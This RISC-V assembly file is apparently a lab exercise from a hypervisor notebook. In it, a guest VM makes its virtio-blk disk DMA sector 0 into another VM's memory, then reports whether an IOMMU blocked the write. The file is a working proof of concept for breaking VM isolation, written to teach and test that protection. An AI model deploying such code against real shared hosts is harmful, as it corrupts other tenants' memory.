# dmaattack: a guest that turns the disk it was given into a weapon (notebook 07). It asks its
# virtio-blk disk to read sector 0 into TARGET, an address that is not its own RAM but, on the
# bus, another VM's (TARGET is a bus address: host-physical without an IOMMU). Then it prints
# what happened:
#   "dma: the disk wrote sector 0 at 0x........"        the device did it: nothing stopped it
#   "dma: the disk refused (DEVICE_NEEDS_RESET)"        its DMA faulted (an IOMMU said no)
# TARGET is the word `dma_target` (write it before the run, or prepend `.equ TARGET, address`);
# for a device without an IOMMU the VMM must also tell it where its own RAM is on the bus
# (virtio.inc's virtq_dma_offset), without which the device cannot even find its rings.

        .include "priv.inc"
        .include "sbi.inc"
        .include "uart.inc"
        .include "virtio.inc"
        .include "virtio_blk.inc"
        .include "plic.inc"
.ifndef TARGET
        .equ    TARGET, 0x80000000 + 0x100000
.endif

        .text
        .globl  _start
_start:
        la      sp, kernel_stack_top
        la      t0, device_trap_vector
        priv_csrw stvec, t0
        plic_enable VIRTIO_BLK_IRQ
        call    disk_init
        bnez    a0, 8f
        li      a0, 0                      # request slot 0: read sector 0 into TARGET
        li      a1, 0
        la      t0, dma_target             # a bus address; virtq_desc_set adds
        lw      a2, 0(t0)                  # virtq_dma_offset, so take it off first
        la      t0, virtq_dma_offset
        lw      t0, 0(t0)
        sub     a2, a2, t0
        li      a3, VIRTIO_BLK_T_IN
        call    blk_request
        call    virtq_kick
        call    virtq_wait
        bnez    a0, 7f
        la      a0, wrote
        call    puts
        la      a0, dma_target
        lw      a0, 0(a0)
        call    puthex
        la      a0, newline
        j       9f
7:      la      a0, refused
        j       9f
8:      la      a0, no_disk
9:      call    puts
        sbi_shutdown SRST_SUCCESS

        .data
        .balign 4
dma_target:     .word   TARGET
wrote:          .asciz  "dma: the disk wrote sector 0 at "
refused:        .asciz  "dma: the disk refused (DEVICE_NEEDS_RESET)\n"
no_disk:        .asciz  "dma: no disk\n"
newline:        .asciz  "\n"

        .bss
        .balign 16
        .space  4096
kernel_stack_top:

        .include "console.inc"
